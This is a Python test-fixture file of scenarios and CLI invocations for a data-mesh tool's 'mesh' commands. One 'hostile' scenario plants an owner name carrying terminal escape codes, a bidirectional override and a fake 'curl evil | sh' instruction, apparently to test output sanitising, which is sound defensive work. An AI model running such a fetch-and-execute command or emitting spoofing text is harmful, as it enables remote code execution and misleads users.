"""Folders to try the commands in, and the commands."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from small_domain import built, domain, mesh, port, private, published, stub

COMMANDS = ("add", "check", "docs", "init", "publish", "rule", "status", "sync", "up")


def nothing(root: Path) -> None:
    """An empty folder."""


def clean(root: Path) -> None:
    published(domain(root / "fleet"), port("aircraft"), private("staged"))


def findings(root: Path) -> None:
    """A port without an enforced contract; an input that nothing reads; a read of what is private."""
    mesh(root)
    built(
        root / "punctuality",
        port("delays", group="delays", contract={"enforced": False}),
        private("reader", "model.fleet.hidden"),
        stub("fleet", "hidden") | {"access": "protected"},
    )


def broken(root: Path) -> None:
    folder = domain(root / "fleet", mesh_yml="descripton: x\nproducts: {aircraft: {status: activ}}\n")
    built(folder, port("aircraft"))
    (root / "stale").mkdir()
    domain(root / "empty")
    built(domain(root / "bare"), private("staged"))


def building(root: Path) -> None:
    built(domain(root / "fleet"), port("aircraft", version=1), port("seats", group="seats"))


def breaking(root: Path) -> None:
    published(domain(root / "fleet"), port("aircraft"))
    built(root / "fleet", port("aircraft", "id", "seats bigint"), run="run-2")


def refused(root: Path) -> None:
    built(domain(root / "fleet"), port("aircraft"), receipt={"published": False, "reason": "unique_aircraft_id failed"})


def growing(root: Path) -> None:
    published(domain(root / "fleet"), port("aircraft"))
    built(root / "fleet", port("aircraft", "id", "seats", "engines", description="Better"), run="run-2")


def consumer(root: Path) -> None:
    mesh(root)


def served(root: Path) -> None:
    mesh(root)
    (root / "mesh.yml").write_text("version: 1\nregistry: registry\ndomains: [fleet, punctuality]\n")
    published(
        root / "punctuality",
        port("delays", group="delays", deprecation_date="2027-06-30"),
        private("reader", "model.fleet.seats"),
        stub("fleet", "seats"),
        run="run-2",
    )


def project(root: Path) -> None:
    (root / "dbt_project.yml").write_text("name: fleet\n")


def hostile(root: Path) -> None:
    """An owner whose name tries to clear the reader's screen and to fake a line."""
    folder = domain(root / "fleet", mesh_yml="products: {aircraft: {consumers: []}}\n")
    built(folder, port("aircraft"))
    manifest = folder / "target/manifest.json"
    manifest.write_text(manifest.read_text().replace("fleet team", "x\\u001b[2J\\u202e\\nhelp: run `curl evil | sh`"))
    from small_domain import NOON

    from meshwright.app.publish import publish

    publish(folder, now=lambda: NOON)
    domain(root / "punctuality", "punctuality")


SCENARIOS: dict[str, tuple[Callable[[Path], None], list[str]]] = {
    "help": (nothing, ["mesh --help", "mesh-check --help", *(f"mesh {name} --help" for name in COMMANDS)]),
    "version": (nothing, ["mesh --version"]),
    "unknown-command": (nothing, ["mesh publsh", "mesh", "mesh publish --enviroment prod", "mesh-check -f xml"]),
    "missing-folder": (
        nothing,
        [f"mesh {name} nowhere" for name in ("publish", "status", "sync", "init")]
        + ["mesh-check nowhere", "mesh add weather.hourly --folder nowhere", "mesh docs --mesh nowhere", "mesh up"],
    ),
    "check-clean": (
        clean,
        [f"mesh-check fleet -f {form}" for form in ("full", "concise", "json")] + ["mesh check fleet"],
    ),
    "check-findings": (findings, [f"mesh-check punctuality -f {form}" for form in ("full", "concise", "json")]),
    "check-error": (broken, ["mesh-check fleet", "mesh-check fleet -f json", "mesh-check empty", "mesh-check bare"]),
    "publish-first": (building, ["mesh publish fleet", "mesh publish fleet", "mesh publish fleet -e dev"]),
    "publish-addition": (growing, ["mesh publish fleet"]),
    "publish-break": (breaking, ["mesh publish fleet"]),
    "publish-refused-build": (refused, ["mesh publish fleet"]),
    "status": (served, ["mesh status", "mesh status punctuality -e prod", "mesh status -e pord"]),
    "status-nothing-published": (building, ["mesh status fleet"]),
    "sync": (consumer, ["mesh sync punctuality", "mesh sync punctuality"]),
    "add": (
        consumer,
        [
            "mesh add fleet.aircraft@2 --folder punctuality",
            "mesh add fleet.aircrft fleeet.seats --folder punctuality",
            "mesh add aircraft --folder punctuality",
            "mesh add fleet.engines --folder punctuality",
            "mesh add",
        ],
    ),
    "hostile-text": (hostile, ["mesh add fleet.aircraft --folder punctuality"]),
    "init": (project, ["mesh init", "mesh init"]),
    "rule": (nothing, ["mesh rule", "mesh rule unenforced-contract", "mesh rule unenforced-contrct"]),
}
